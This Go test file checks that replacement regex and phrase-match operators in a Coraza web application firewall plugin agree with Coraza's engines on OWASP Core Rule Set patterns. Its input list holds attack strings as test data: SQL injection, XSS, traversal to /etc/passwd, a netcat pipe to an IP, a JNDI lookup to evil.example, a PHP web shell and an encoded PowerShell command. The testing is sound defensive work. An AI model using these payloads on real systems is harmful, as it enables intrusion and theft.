package operators

import (
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"

	coreruleset "github.com/corazawaf/coraza-coreruleset/v4"
	"github.com/corazawaf/coraza/v3"
	"github.com/corazawaf/coraza/v3/experimental/plugins"
	"github.com/corazawaf/coraza/v3/experimental/plugins/plugintypes"
	petar "github.com/petar-dambovaliev/aho-corasick"
)

// captureTx is the part of a transaction an operator touches.
type captureTx struct {
	plugintypes.TransactionState
	capturing bool
	fields    []string
}

func (t *captureTx) Capturing() bool { return t.capturing }
func (t *captureTx) CaptureField(i int, v string) {
	for len(t.fields) <= i {
		t.fields = append(t.fields, "")
	}
	t.fields[i] = v
}

// crsArgs compiles CRS v4 at paranoia level 4 once and records every argument Coraza
// handed to the @rx and @pm operators, so the tests below cover CRS's real patterns.
var crsArgs = sync.OnceValues(func() (rx, pm []string) {
	builtinCRS() // first: the baseline keeps Coraza's operators
	seen := map[string]bool{}
	record := func(kind string, list *[]string, f plugintypes.OperatorFactory) plugintypes.OperatorFactory {
		return func(o plugintypes.OperatorOptions) (plugintypes.Operator, error) {
			if !seen[kind+o.Arguments] {
				seen[kind+o.Arguments] = true
				*list = append(*list, o.Arguments)
			}
			return f(o)
		}
	}
	plugins.RegisterOperator("rx", record("rx", &rx, newRX))
	plugins.RegisterOperator("pm", record("pm", &pm, newPM))
	defer func() { // leave the registry as Register sets it
		plugins.RegisterOperator("rx", newRX)
		plugins.RegisterOperator("pm", newPM)
	}()
	_, err := coraza.NewWAF(coraza.NewWAFConfig().WithRootFS(coreruleset.FS).WithDirectives(`
Include @coraza.conf-recommended
Include @crs-setup.conf.example
SecAction "id:900000,phase:1,pass,nolog,setvar:tx.blocking_paranoia_level=4"
Include @owasp_crs/*.conf`))
	if err != nil {
		panic(err)
	}
	return rx, pm
})

// inputs exercise the CRS patterns: attacks from the CRS tests' families, benign text,
// mixed case, newlines (the (?sm) flags), non-ASCII and invalid UTF-8.
var inputs = []string{
	"var=1234 OR 1=1", "-1839' or '1'='1", "1 UNION SELECT password FROM users--",
	"<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "javascript:alert`1`",
	"../../../../etc/passwd", "..%2f..%2fetc%2fshadow", "/bin/bash -c 'cat /etc/passwd'", ";ls -la|nc 10.0.0.1 4444",
	"${jndi:ldap://evil.example/a}", "<?php system($_GET['c']); ?>", "java.lang.Runtime.getRuntime().exec(\"id\")",
	"http://169.254.169.254/latest/meta-data/", "PHPSESSID=abc; path=/", "Mozilla/5.0 (X11; Linux x86_64) Nikto/2.1.6",
	"{\"user\":{\"name\":\"Ada Lovelace\",\"email\":\"ada@example.com\",\"tags\":[\"a\",\"b\"]}}",
	"The quick brown fox jumps over the lazy dog; select a book from the shelf and drop it.",
	"line one\nSELECT *\nFROM t WHERE 1=1\n", "Grüße aus Köln — ünïcödé ✓ 日本語のテキスト",
	"abc\xff\xfeSELECT 1 FROM dual \xc3(", "application/x-www-form-urlencoded; charset=UTF-8",
	"eval(base64_decode('ZWNobyAxOw=='))", "cmd.exe /c powershell -enc SQBFAFgA", "a=1&b=2&c=%27%20OR%201%3D1",
}

func variants(s string) []string {
	long := strings.Repeat("padding text ", 10) + s // past re2MinLen: the RE2 path
	return []string{s, strings.ToUpper(s), long, strings.ToUpper(long), long + "\n" + long}
}

func TestRXEnginesAgreeOnCRS(t *testing.T) {
	rxs, _ := crsArgs()
	if len(rxs) < 250 {
		t.Fatalf("recorded %d @rx patterns from CRS, want the full set (>= 250)", len(rxs))
	}
	checked := 0
	for _, arg := range rxs {
		op, err := newRX(plugintypes.OperatorOptions{Arguments: arg})
		if err != nil {
			t.Fatalf("newRX(%q): %v", arg, err)
		}
		r, ok := op.(*rx)
		if !ok {
			continue // binary pattern: same engine as Coraza
		}
		if r.fast == nil {
			t.Errorf("RE2 refused CRS pattern %q", arg)
			continue
		}
		for _, in := range inputs {
			for _, v := range variants(in) {
				checkRX(t, r, v)
				checked++
			}
		}
	}
	t.Logf("%d patterns x inputs checked", checked)
}

// checkRX compares the operator with Coraza's engine: Go's regexp in (?sm) mode.
func checkRX(t *testing.T, r *rx, v string) {
	t.Helper()
	want := r.std.FindStringSubmatchIndex(v)
	tx := &captureTx{capturing: true}
	got := r.Evaluate(tx, v)
	if got != (want != nil) {
		t.Fatalf("pattern %q on %q: matched %v, Go regexp %v", r.std.String(), v, got, want != nil)
	}
	if want == nil {
		return
	}
	var wantFields []string
	for i := 0; i < len(want)/2 && i < 9; i++ {
		if want[2*i] >= 0 {
			wantFields = append(wantFields, v[want[2*i]:want[2*i+1]])
		} else {
			wantFields = append(wantFields, "")
		}
	}
	if !slices.Equal(tx.fields, wantFields) {
		t.Fatalf("pattern %q on %q: captured %q, Go regexp %q", r.std.String(), v, tx.fields, wantFields)
	}
	if plain := r.Evaluate(&captureTx{}, v); !plain {
		t.Fatalf("pattern %q on %q: matches when capturing only", r.std.String(), v)
	}
}

// corazaPM is the automaton Coraza v3.8.1 builds for @pm (the reference).
func corazaPM(dict []string) petar.AhoCorasick {
	b := petar.NewAhoCorasickBuilder(petar.Opts{AsciiCaseInsensitive: true, MatchKind: petar.LeftMostLongestMatch, DFA: true})
	return b.Build(dict)
}

func checkPM(t *testing.T, arg string, ref petar.AhoCorasick, op plugintypes.Operator, v string) {
	t.Helper()
	want := &captureTx{capturing: true}
	petarEvaluate(ref, want, v)
	got := &captureTx{capturing: true}
	op.Evaluate(got, v)
	if !slices.Equal(got.fields, want.fields) {
		t.Fatalf("@pm %q on %q: captured %q, Coraza's automaton %q", arg, v, got.fields, want.fields)
	}
	if m := op.Evaluate(&captureTx{}, v); m != (len(want.fields) > 0) {
		t.Fatalf("@pm %q on %q: matched %v without capture", arg, v, m)
	}
}

func TestPMEnginesAgreeOnCRS(t *testing.T) {
	_, pms := crsArgs()
	if len(pms) < 5 {
		t.Fatalf("recorded %d @pm lists from CRS, want >= 5", len(pms))
	}
	for _, arg := range pms {
		op, err := newPM(plugintypes.OperatorOptions{Arguments: arg})
		if err != nil {
			t.Fatal(err)
		}
		ref := corazaPM(strings.Split(strings.ToLower(arg), " "))
		words := strings.Split(arg, " ")
		for _, in := range append(inputs, words...) {
			for _, v := range variants(in) {
				checkPM(t, arg, ref, op, v)
			}
		}
		// every phrase of the list, embedded and repeated past the ten captures
		for _, w := range words {
			checkPM(t, arg, ref, op, strings.Repeat("x"+strings.ToUpper(w)+" ", 12))
		}
	}
}

func TestPMFromFileReadsCRSData(t *testing.T) {
	op, err := newPMFromFile(plugintypes.OperatorOptions{Arguments: "unix-shell.data", Path: []string{"@owasp_crs"}, Root: coreruleset.FS})
	if err != nil {
		t.Fatal(err)
	}
	for in, want := range map[string]bool{"x=cat /ETC/passwd": true, "nothing to see here": false} {
		if got := op.Evaluate(&captureTx{}, in); got != want {
			t.Errorf("@pmFromFile unix-shell.data on %q = %v, want %v", in, got, want)
		}
	}
	if _, err := newPMFromFile(plugintypes.OperatorOptions{Arguments: "missing.data", Path: []string{"@owasp_crs"}, Root: coreruleset.FS}); err == nil {
		t.Error("a missing data file compiled")
	}
}

func TestPMEmptyPhraseMatchesAll(t *testing.T) {
	op, err := newPM(plugintypes.OperatorOptions{Arguments: "foo  bar"}) // two spaces: an empty phrase
	if err != nil {
		t.Fatal(err)
	}
	ref := corazaPM([]string{"foo", "", "bar"})
	for _, v := range []string{"", "zzz", "FOO", "xbarx"} {
		checkPM(t, "foo  bar", ref, op, v)
	}
}

func TestRXBinaryPatternAndCaptures(t *testing.T) {
	op, err := newRX(plugintypes.OperatorOptions{Arguments: `\xff\xfe(a+)`})
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := op.(*binaryRX); !ok {
		t.Fatalf("pattern with non-UTF-8 bytes compiled to %T, want the binary matcher", op)
	}
	tx := &captureTx{capturing: true}
	if !op.Evaluate(tx, "zz\xff\xfeaaa") || !slices.Equal(tx.fields, []string{"\xff\xfeaaa", "aaa"}) {
		t.Errorf("binary @rx captured %q", tx.fields)
	}
	// ten groups: Coraza keeps groups 0-8
	op, err = newRX(plugintypes.OperatorOptions{Arguments: `(a)(b)(c)(d)(e)(f)(g)(h)(i)(j)(k)` + strings.Repeat("z", 30)})
	if err != nil {
		t.Fatal(err)
	}
	tx = &captureTx{capturing: true}
	op.Evaluate(tx, "abcdefghijk"+strings.Repeat("z", 30))
	if len(tx.fields) != 9 || tx.fields[8] != "h" {
		t.Errorf("captured %q, want groups 0-8", tx.fields)
	}
	if _, err := newRX(plugintypes.OperatorOptions{Arguments: `(unclosed`}); err == nil {
		t.Error("a broken pattern compiled")
	}
}

func TestMinMatchLengthNeverTooLong(t *testing.T) {
	for _, c := range []struct {
		re, match string
	}{{`abc`, "abc"}, {`(?i)k`, "\u212a"}, {`a{3}b?`, "aaa"}, {`x|yz`, "x"}, {`[a-z]+\d`, "a1"}, {`^$`, ""}, {`日本`, "日本"}} {
		n := minMatchLength("(?sm)" + c.re)
		if !regexp.MustCompile(c.re).MatchString(c.match) || n > len(c.match) {
			t.Errorf("minMatchLength(%q) = %d, but %q (%d bytes) matches", c.re, n, c.match, len(c.match))
		}
	}
}

func FuzzRX(f *testing.F) {
	for _, s := range inputs[:8] {
		f.Add(s)
	}
	f.Add("\xff")
	pats := []string{`(?i)\b(?:union\s+(?:all\s+)?select|select\s+.+\s+from)\b`, `(?i)<script[^>]*>[\s\S]*?`, `(?:\.\./|%2e%2e%2f)+`, `^([a-z]+)=(.*)$`, `(?i)on[a-z]+\s*=`}
	ops := make([]*rx, len(pats))
	for i, p := range pats {
		op, err := newRX(plugintypes.OperatorOptions{Arguments: p})
		if err != nil {
			f.Fatal(err)
		}
		ops[i] = op.(*rx)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for _, r := range ops {
			checkRX(t, r, s)
			checkRX(t, r, strings.Repeat("pad ", 10)+s)
		}
	})
}

func FuzzPM(f *testing.F) {
	f.Add("select from where", "xx SELECT yy FROM")
	f.Add("a ab abc", "ABCABCAB")
	f.Add("A AB A00", "AAB") // leftmost-longest: Coraza captures "A" then "AB"
	f.Fuzz(func(t *testing.T, arg, v string) {
		if len(arg) > 200 {
			return
		}
		op, err := newPM(plugintypes.OperatorOptions{Arguments: arg})
		if err != nil {
			t.Fatal(err)
		}
		checkPM(t, arg, corazaPM(strings.Split(strings.ToLower(arg), " ")), op, v)
	})
}
